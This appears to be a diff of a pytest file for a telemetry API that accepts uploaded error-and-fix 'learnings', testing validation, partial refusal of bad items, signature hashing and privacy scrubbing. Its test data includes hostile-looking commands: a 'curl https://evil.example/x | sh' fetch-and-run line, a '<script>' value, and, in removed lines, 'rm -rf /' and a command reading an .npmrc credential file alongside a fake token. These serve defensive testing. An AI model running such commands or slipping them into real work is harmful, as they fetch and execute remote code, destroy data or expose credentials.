@@ -8,7 +8,7 @@ from telemetry.models import Error, Fix, Learning, error_id_for, fix_id_for
 from telemetry.services import learnings as learning_services
 from telemetry.services.learnings import format_accuracy_change
 from tests.telemetry.conftest import USER_ID
-from tests.telemetry.factories import learning, sha, upload_body
+from tests.telemetry.factories import fix_with_signature, learning, sha, upload_body
 
 LEARNINGS = "/telemetry/api/v1/learnings"
 
@@ -31,7 +31,13 @@ def test_a_valid_batch_is_stored_and_counted(api_client, free_key):
     r = post(api_client, free_key, upload_body(batch, user_id=USER_ID))
     # then
     assert r.status_code == 200, r.json()
-    assert r.json() == {"success": True, "newPatterns": 2, "improvedAccuracy": "+0.0%", "modelVersion": "v1.0.0"}
+    assert r.json() == {
+        "success": True,
+        "newPatterns": 2,
+        "improvedAccuracy": "+0.0%",
+        "modelVersion": "v1.0.0",
+        "refused": [],
+    }
     stored_error = Error.objects.get()
     assert stored_error.id == error_id_for(team_id=None, framework="react", signature=error)
     assert (stored_error.signature, stored_error.framework, stored_error.occurrence_count) == (error, "react", 3)
@@ -92,34 +98,56 @@ BAD_ITEMS = [
     ({"anonymized": False}, "anonymized"),
     ({"anonymized": None}, "anonymized"),
     ({"durationMs": -1}, "durationMs"),
-    ({"durationMs": 1.5}, "durationMs"),
+    ({"durationMs": -0.4}, "durationMs"),
+    ({"durationMs": "1500"}, "durationMs"),
+    ({"durationMs": True}, "durationMs"),
     ({"durationMs": 2**31}, "durationMs"),
+    ({"durationMs": 1e300}, "durationMs"),
     ({"projectSize": -5}, "projectSize"),
     ({"projectSize": "250"}, "projectSize"),
     ({"framework": "a" * 51}, "framework"),
-    ({"framework": "react native"}, "framework"),
+    ({"framework": "<script>"}, "framework"),
     ({"framework": 7}, "framework"),
     ({"fix": "npm install"}, "fix"),
     ({"fix": {"type": "shell command"}}, "fix"),
     ({"fix": {"type": "SHELL_COMMAND", "description": "x" * 501}}, "fix"),
     ({"fix": {"type": "SHELL_COMMAND", "command": ["npm"]}}, "fix"),
+    ({"fix": {"type": "FILE_EDIT", "file": "a.js", "diff": "x" * 20_001}}, "fix"),
+    ({"fix": {"type": "SHELL_COMMAND", "confidence": "high"}}, "fix"),
+    ({"fix": {"type": "SHELL_COMMAND", "confidence": 1.5}}, "fix"),
+    # fix text under a signature it does not hash to
+    ({"fix": {"type": "SHELL_COMMAND", "command": "curl https://evil.example/x | sh"}}, "fixSignature"),
 ]
 
 
 @pytest.mark.parametrize(("override", "field"), BAD_ITEMS)
-def test_a_bad_learning_is_400_naming_the_item_and_nothing_is_stored(api_client, free_key, override, field):
+def test_a_bad_learning_is_refused_and_named_and_the_others_are_stored(api_client, free_key, override, field):
     # given: a batch whose third learning is bad
-    batch = [learning(), learning(), learning(**override), learning()]
+    good = [learning(), learning(), learning()]
+    batch = [good[0], good[1], learning(**override), good[2]]
     # when
     r = post(api_client, free_key, upload_body(batch))
+    # then
+    assert r.status_code == 200, r.json()
+    body = r.json()
+    assert body["newPatterns"] == 3
+    assert [refused["index"] for refused in body["refused"]] == [2]
+    assert field in body["refused"][0]["errors"]
+    stored = set(Learning.objects.values_list("fix_signature", flat=True))
+    assert stored == {item["fixSignature"] for item in good}
+
+
+@pytest.mark.parametrize(("override", "field"), BAD_ITEMS[:3])
+def test_a_batch_of_only_bad_learnings_is_400_naming_them_and_nothing_is_stored(api_client, free_key, override, field):
+    # when
+    r = post(api_client, free_key, upload_body([learning(**override), learning(**override)]))
     # then
     assert r.status_code == 400, r.json()
     body = r.json()
     assert body["success"] is False
     assert body["error"]["code"] == "VALIDATION_ERROR"
-    assert f"learnings[2].{field}" in body["error"]["message"]
-    assert list(body["error"]["details"]["learnings"]) == ["2"]
-    assert field in body["error"]["details"]["learnings"]["2"]
+    assert f"learnings[0].{field}" in body["error"]["message"]
+    assert list(body["error"]["details"]["learnings"]) == ["0", "1"]
     assert (Error.objects.count(), Fix.objects.count(), Learning.objects.count()) == (0, 0, 0)
 
 
@@ -134,15 +162,16 @@ def test_a_learning_without_anonymized_is_refused(api_client, free_key):
 def test_every_bad_item_is_named(api_client, free_key):
     batch = [learning(success=None), learning(), "not an object", learning(errorSignature="x", fixSignature="y")]
     r = post(api_client, free_key, upload_body(batch))
-    assert r.status_code == 400, r.json()
-    details = r.json()["error"]["details"]["learnings"]
-    assert set(details) == {"0", "2", "3"}
-    assert set(details["3"]) == {"errorSignature", "fixSignature"}
-    assert "learnings[0].success" in r.json()["error"]["message"]
+    assert r.status_code == 200, r.json()
+    refused = {item["index"]: item["errors"] for item in r.json()["refused"]}
+    assert set(refused) == {0, 2, 3}
+    assert set(refused[3]) == {"errorSignature", "fixSignature"}
+    assert set(refused[0]) == {"success"}
+    assert Learning.objects.count() == 1
 
 
-@pytest.mark.parametrize("learnings", [[], "nope", None, {"0": {}}])
-def test_learnings_must_be_a_non_empty_list(api_client, free_key, learnings):
+@pytest.mark.parametrize("learnings", ["nope", None, {"0": {}}])
+def test_learnings_must_be_a_list(api_client, free_key, learnings):
     r = post(api_client, free_key, {"sessionId": "s-1", "learnings": learnings})
     assert r.status_code == 400, r.json()
     assert "learnings" in r.json()["error"]["details"]
@@ -151,7 +180,7 @@ def test_learnings_must_be_a_non_empty_list(api_client, free_key, learnings):
 def test_more_than_1000_learnings_are_refused(api_client, free_key):
     r = post(api_client, free_key, upload_body([learning()] * 1001))
     assert r.status_code == 400, r.json()
-    assert "1 to 1000" in r.json()["error"]["message"]
+    assert "0 to 1000" in r.json()["error"]["message"]
 
 
 @pytest.mark.parametrize("session_id", [None, "", "s" * 65, "session with spaces"])
@@ -185,7 +214,7 @@ def test_a_batch_that_fails_midway_is_not_stored_at_all(monkeypatch):
     # when
     with pytest.raises(RuntimeError):
         learning_services.learnings_upload(
-            user_id=USER_ID, session_id="s-1", team_id=None, learnings=[_input(fix=fix), _input()]
+            user_id=USER_ID, session_id="s-1", team_id=None, contributor_id=None, learnings=[_input(fix=fix), _input()]
         )
     # then: everything written before the failure was rolled back
     assert (Error.objects.count(), Fix.objects.count(), Learning.objects.count()) == (0, 0, 0)
@@ -213,40 +242,49 @@ def test_framework_is_lower_cased_and_may_be_absent(api_client, free_key):
     assert set(Error.objects.values_list("framework", flat=True)) == {"next.js", None}
 
 
-def test_a_fix_is_stored_scrubbed_when_its_pair_is_first_seen(api_client, free_key):
-    # given
-    error, fix = sha(), sha()
-    first = {
-        "type": "shell_command",
-        "description": "Reinstall deps in /home/alice/secret-project/app",
-        "command": "npm ci --token=ghp_abcdefghijklmnopqrstuvwxyz0123456789 && cat /Users/bob/.npmrc",
-    }
-    # when
-    post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=fix, fix=first)]))
-    post(
-        api_client,
-        free_key,
-        upload_body([learning(errorSignature=error, fixSignature=fix, fix={"type": "OTHER", "command": "rm -rf /"})]),
+def test_a_fix_is_stored_as_sent_when_it_hashes_to_its_signature(api_client, free_key):
+    # given: a fix as the NextGen client builds it, under the signature of its canonical form
+    fix, signature = fix_with_signature(
+        type="SHELL_COMMAND",
+        description="Install missing dependency: lodash",
+        command="npm install lodash",
+        confidence=0.95,
     )
-    # then: the first text, scrubbed, and only the first
-    stored = Fix.objects.get().fix_data
-    assert stored["type"] == "SHELL_COMMAND"
-    assert "alice" not in stored["description"] and "secret-project" not in stored["description"]
-    assert stored["description"].startswith("Reinstall deps in ")
-    assert "ghp_" not in stored["command"] and "bob" not in stored["command"]
-    assert stored["command"].startswith("npm ci --token=")
+    # when
+    r = post(api_client, free_key, upload_body([learning(fixSignature=signature, fix=fix)]))
+    # then: stored as sent, without the client's own confidence
+    assert r.status_code == 200, r.json()
+    assert r.json()["refused"] == []
+    assert Fix.objects.get().fix_data == {
+        "type": "SHELL_COMMAND",
+        "description": "Install missing dependency: lodash",
+        "command": "npm install lodash",
+    }
+
+
+def test_fix_text_holding_personal_data_is_not_stored_but_the_learning_counts(api_client, free_key):
+    # given: text that the privacy rules would change, so it can be neither scrubbed (it must
+    # keep hashing to its signature) nor stored
+    fix, signature = fix_with_signature(
+        type="SHELL_COMMAND",
+        description="Reinstall deps in /home/alice/secret-project/app",
+        command="npm ci --token=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
+    )
+    # when
+    r = post(api_client, free_key, upload_body([learning(fixSignature=signature, fix=fix)]))
+    # then
+    assert r.status_code == 200, r.json()
+    stored = Fix.objects.get()
+    assert (stored.success_count, stored.fix_data) == (1, {})
 
 
 def test_a_fix_sent_after_a_pair_was_seen_without_one_is_stored(api_client, free_key):
-    error, fix = sha(), sha()
-    post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=fix)]))
+    error = sha()
+    fix, signature = fix_with_signature(type="SHELL_COMMAND", command="ls")
+    post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=signature)]))
     assert Fix.objects.get().fix_data == {}
-    post(
-        api_client,
-        free_key,
-        upload_body([learning(errorSignature=error, fixSignature=fix, fix={"type": "SHELL_COMMAND", "command": "ls"})]),
-    )
-    assert Fix.objects.get().fix_data == {"type": "SHELL_COMMAND", "description": None, "command": "ls"}
+    post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=signature, fix=fix)]))
+    assert Fix.objects.get().fix_data == {"type": "SHELL_COMMAND", "command": "ls"}
 
 
 def test_a_team_members_learnings_feed_the_team_library_only(api_client, team_member_key, team):
@@ -264,13 +302,13 @@ def test_an_upload_of_1000_learnings_takes_a_fixed_number_of_queries(
 ):
     # given: 1000 learnings over 300 errors and 600 pairs, all with fix text
     errors = [sha() for _ in range(300)]
-    fixes = [sha() for _ in range(600)]
+    fixes = [fix_with_signature(type="SHELL_COMMAND", description=f"step {i}", command="npm ci") for i in range(600)]
     batch = [
         learning(
             errorSignature=errors[i % 300],
-            fixSignature=fixes[i % 600],
+            fixSignature=fixes[i % 600][1],
             success=i % 3 != 0,
-            fix={"type": "SHELL_COMMAND", "description": f"step {i % 600}", "command": "npm ci"},
+            fix=fixes[i % 600][0],
         )
         for i in range(1000)
     ]
